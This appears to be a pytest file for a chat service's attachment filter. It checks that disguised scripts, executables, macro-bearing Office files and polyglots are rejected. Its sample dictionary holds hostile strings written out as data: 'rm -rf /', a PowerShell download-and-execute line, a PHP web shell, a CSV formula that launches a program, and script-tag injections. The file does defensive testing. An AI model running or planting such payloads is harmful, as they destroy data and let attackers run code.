"""W4 and S9: what runs, or would be shown as a page, does not become a document by its name, its first bytes or a place
where nobody looks."""

import io
import random
import zipfile
from time import process_time

import pytest

from chats.market.limits import LARGEST_FILE
from chats.services.attachments.attachment import attachment_of
from tests.services.attachments.documents import PNG, archive, compound, media, office, open_document, workbook
from tests.services.attachments.test_attachment import GOOD

INSTALLER = bytes.fromhex("84100c0000000000c000000000000046")  # the class of an MSI
MACRO_TYPE = '<Override ContentType="application/vnd.ms-office.vbaProject"/>'
NAMES = ["a.png", "a.docx", "a.doc", "a.txt", "a.csv", "a.mp4"]


def twice(first: bytes, second: bytes) -> bytes:
    return first + second


def doubled_name() -> bytes:
    whole = io.BytesIO(office("word/document.xml"))
    with pytest.warns(UserWarning, match="Duplicate"), zipfile.ZipFile(whole, "a") as file:
        file.writestr("word/document.xml", "another")
    return whole.getvalue()


PRETENDERS = {
    "svg": b"<svg xmlns='http://www.w3.org/2000/svg'/>",
    "page": b"<!doctype html><script>alert(1)</script>",
    "page after blanks": b" \r\n\t<HTML>",
    "page with a mark": b"\xef\xbb\xbf<html>",
    "page in UTF-16": "<script>alert(1)</script>".encode("utf-16"),
    "script in a text": b"Hello\n< script src=x>",
    "xml": b"<?xml version='1.0'?><svg/>",
    "php": b"Text <?php system($_GET[0]);",
    "shell": b"#!/bin/sh\nrm -rf /",
    "batch": b"@echo off\ndel *.*",
    "powershell": b"IEX\nInvoke-Expression (New-Object Net.WebClient).DownloadString('http://x')",
    "visual basic": b'Set x = CreateObject("WScript.Shell")',
    "javascript": b"'use strict';\nalert(1)",
    "javascript function": b"(function () { alert(1) })()",
    "javascript module": b"import fs from 'fs'",
    "node": b"const fs = require('fs')",
    "cell that starts a program": b"Name,Sum\n=cmd|'/C calc'!A0,1",
    "program": b"MZ\x90\0",
    "program of Linux": b"\x7fELF\x02\x01\x01",
    "nothing known": bytes(range(256)),
    "no archive": b"PK\x03\x04 not an archive",
    "sound": b"RIFF\x10\0\0\0WAVE",
    "unknown brand": media(b"crx "),
    "parts without types": archive("word/document.xml"),
    "macros of Word": office("word/document.xml", "word/vbaProject.bin"),
    "macros by another name": office("word/document.xml", "word/x.dat", types=MACRO_TYPE),
    "macros in UTF-16": office("word/document.xml", "word/x.dat", types=MACRO_TYPE.encode("utf-16")),
    "macros in references": office("word/document.xml", types='<Override ContentType="v&#98;aProject"/>'),
    "types of a megabyte": office("word/document.xml", types=" " * 1_000_000 + MACRO_TYPE),
    "macros of Excel 4": office("xl/workbook.xml", "xl/macrosheets/sheet1.xml"),
    "packed program": office("word/document.xml", "word/embeddings/oleObject1.bin"),
    "control": office("word/document.xml", "word/activeX/activeX1.xml"),
    "document with a program": office("word/document.xml", "run.exe"),
    "Java in a document": office("word/document.xml", "META-INF/MANIFEST.MF"),
    "Android in a document": office("xl/workbook.xml", "AndroidManifest.xml", "classes.dex"),
    "two archives": twice(office("word/document.xml", "run.exe"), office("word/document.xml")),
    "one name twice": doubled_name(),
    "macros of OpenDocument": open_document("text", "Basic/Standard/Module1.xml"),
    "scripts of OpenDocument": open_document("spreadsheet", "Scripts/python/x.py"),
    "drawing of OpenDocument": open_document("graphics"),
    "old macros of Word": compound("WordDocument", "Macros/", "VBA/"),
    "old macros of Excel": compound("_VBA_PROJECT_CUR/", streams={"Workbook": workbook(0)}),
    "sheet of macros": compound(streams={"Workbook": workbook(0, 1)}),
    "protected sheets": compound(streams={"Workbook": workbook(0, protected=True)}),
    "packed file": compound("WordDocument", "\x01Ole10Native"),
    "encrypted": compound("EncryptedPackage", "EncryptionInfo"),
    "installer": compound("WordDocument", clsid=INSTALLER),
    "two documents": compound("WordDocument", streams={"Workbook": workbook(0)}),
    "compound of nothing": compound("Contents"),
    "half a compound": compound("WordDocument")[:600],
    "picture with Java": PNG + archive("META-INF/MANIFEST.MF", "Main.class"),
    "PDF with a program": b"%PDF-1.7 " + archive("run.exe"),
    "video with a script": media(b"isom") + archive("index.js"),
}


@pytest.mark.parametrize("content", PRETENDERS.values(), ids=PRETENDERS)
def test_w4_what_runs_or_would_be_a_page_is_not_sent_under_any_name(content):
    assert {name: attachment_of(name, content) for name in NAMES} == dict.fromkeys(NAMES, "file_type")


@pytest.mark.parametrize("kind", GOOD)
def test_w4_a_damaged_file_is_never_an_error(kind):
    dice = random.Random(kind)

    for _ in range(60):
        content = bytearray(GOOD[kind])
        for _ in range(dice.randint(1, 8)):
            content[dice.randrange(len(content))] = dice.randrange(256)
        attachment_of(f"a.{kind}", bytes(content[: dice.randint(1, len(content))]))


@pytest.mark.parametrize(
    "piece",
    [b"\n", b"< ", b"() ", b" \t", b'"=', b"import ", b"\xd1\x8f", b"a", b"@echo ", b"(function"],
)
def test_s11_five_megabytes_made_to_be_slow_are_judged_in_a_second(piece):
    content = piece * (LARGEST_FILE // len(piece))
    started = process_time()

    attachment_of("a.txt", content)

    assert process_time() - started < 1
